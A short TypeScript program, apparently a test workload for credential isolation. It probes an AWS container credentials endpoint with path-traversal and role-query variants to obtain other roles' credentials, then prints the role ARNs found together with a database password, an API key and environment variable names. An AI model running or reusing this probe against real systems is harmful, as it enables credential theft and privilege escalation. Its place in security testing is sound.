// An application that tries for other credentials than its own, and prints what it finds.
const { env } = process;
const own = env['AWS_CONTAINER_CREDENTIALS_FULL_URI'] ?? '';
const headers = { authorization: env['AWS_CONTAINER_AUTHORIZATION_TOKEN'] ?? '' };
const ask = async (url: string): Promise<string> => (await fetch(url, { headers })).text();
const tries = ['/', '/v2/credentials', '/v2/credentials/', '/v2/credentials/execution', '/v2/metadata', '/v4', '/execution', '/../', `${new URL(own).pathname}/../execution`, `${new URL(own).pathname}?role=execution`].map((path) => new URL(path, own).href);
const found = await Promise.all([own, ...tries].map(ask));
const roles = found.flatMap((text) => (JSON.parse(text) as { RoleArn?: string }).RoleArn ?? []);
console.log(JSON.stringify({ roles: [...new Set(roles)], password: env['DB_PASSWORD'], key: env['API_KEY'], own: Object.keys(env).filter((name) => name.startsWith('ASSENT_')) }));
